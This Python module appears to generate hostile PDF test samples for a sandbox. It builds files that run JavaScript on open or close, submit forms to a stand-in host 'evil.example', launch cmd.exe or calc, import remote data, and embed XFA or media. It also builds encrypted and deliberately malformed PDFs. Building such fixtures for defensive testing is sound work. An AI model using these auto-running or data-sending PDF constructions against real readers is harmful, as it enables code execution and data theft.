"""PDF that acts, hides, is locked, or does not keep its own rules."""

from __future__ import annotations

import io
import warnings
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tuidan.sandbox.hostile.kind import HostileFile, sound

SCRIPT = String("app.alert(1); this.submitForm('http://evil.example');")


def documents() -> list[HostileFile]:
    """All of them."""
    made = {what: _with(change) for what, change in CHANGES.items()} | _locked() | _broken()
    return [HostileFile(what, "a.pdf", data) for what, data in made.items()]


def _with(change: Callable[[pikepdf.Pdf], None], **saving: object) -> bytes:
    written = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # that a field has no form is meant
            document.save(written, static_id=True, **saving)  # type: ignore[arg-type]
    return written.getvalue()


def _script(**more: Any) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=SCRIPT, **more)


def _root(key: str, value: Callable[[], object]) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[key] = value()  # type: ignore[assignment]

    return change


def _page(key: str, value: Callable[[], object]) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj[key] = value()  # type: ignore[assignment]

    return change


def _note(kind: str, **more: Any) -> Callable[[], object]:
    rect = [0, 0, 10, 10]
    return lambda: Array([Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=Array(rect), **more)])


def _act(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(kind), **more)


def _script_in_a_stream(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pikepdf.Stream(document, b"app.alert(1)"))


CHANGES: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "PDF that runs a script when opened": _root("/OpenAction", _script),
    "PDF that runs a script from a stream": _script_in_a_stream,
    "PDF with named scripts": _root(
        "/Names", lambda: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script()])))
    ),
    "PDF that runs a script when closed": _root("/AA", lambda: Dictionary(WC=_script())),
    "PDF whose page runs a script": _page("/AA", lambda: Dictionary(O=_script())),
    "PDF whose note runs a script": _page("/Annots", _note("/Link", A=_act("/JavaScript", JS=SCRIPT))),
    "PDF whose field runs a script": _page(
        "/Annots", _note("/Widget", AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=SCRIPT)))
    ),
    "PDF that runs a script after another act": _root(
        "/OpenAction", lambda: Dictionary(S=Name.GoTo, D=Array([]), Next=_script())
    ),
    "PDF that starts a program": _root("/OpenAction", lambda: _act("/Launch", F=String("cmd.exe"))),
    "PDF whose note starts a program": _page("/Annots", _note("/Link", A=_act("/Launch", F=String("calc")))),
    "PDF that sends a form": _page(
        "/Annots", _note("/Link", A=_act("/SubmitForm", F=String("http://evil.example")))
    ),
    "PDF that reads data in": _root("/OpenAction", lambda: _act("/ImportData", F=String("//evil/x"))),
    "PDF that plays": _root("/OpenAction", lambda: _act("/Rendition", OP=0)),
    "PDF with a form of its own language": _root(
        "/AcroForm", lambda: Dictionary(XFA=String("<xdp><script>x</script></xdp>"), Fields=Array([]))
    ),
    "PDF with rich media": _page("/Annots", _note("/RichMedia")),
    "PDF with a screen": _page("/Annots", _note("/Screen")),
    "PDF with a film": _page("/Annots", _note("/Movie")),
    "PDF with a sound": _page("/Annots", _note("/Sound")),
    "PDF with a body in space": _page("/Annots", _note("/3D")),
}


def _locked() -> dict[str, bytes]:
    def nothing(document: pikepdf.Pdf) -> None:
        pass

    return {
        f"PDF locked with {name} by {strength}": _with(
            nothing,
            encryption=pikepdf.Encryption(
                owner="o", user=user, R=strength, aes=strength >= 4, metadata=strength >= 4
            ),
        )
        for strength in (3, 4, 6)
        for name, user in (("a password", "u"), ("an empty password", ""))
    }


def _broken() -> dict[str, bytes]:
    whole = sound("pdf")
    table = whole.rindex(b"startxref")
    return {
        "PDF of its first line": b"%PDF-1.7\n",
        "PDF without an end": whole[:table],
        "PDF whose table is elsewhere": whole[:table] + b"startxref\n7\n%%EOF\n",
        "PDF whose table is beyond its end": whole[:table] + b"startxref\n99999999\n%%EOF\n",
        "PDF with something after its end": whole + b"\nhidden words",
        "PDF without pages": _no_pages(),
        "PDF whose root is missing": whole.replace(b"/Root 1 0 R", b"/Root 9 0 R"),
        "PDF whose stream is no stream": _bad_stream(),
        "PDF of noise between": b"%PDF-1.7\n" + b"\xde\xad\xbe\xef" * 500 + b"\n%%EOF\n",
    }


def _no_pages() -> bytes:
    written = io.BytesIO()
    with pikepdf.new() as document:
        document.save(written, static_id=True)
    return written.getvalue()


def _bad_stream() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, b"")
        stream.write(b"this is not packed at all", filter=Name.FlateDecode)
        document.pages[0].obj["/Contents"] = document.make_indirect(stream)

    return _with(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
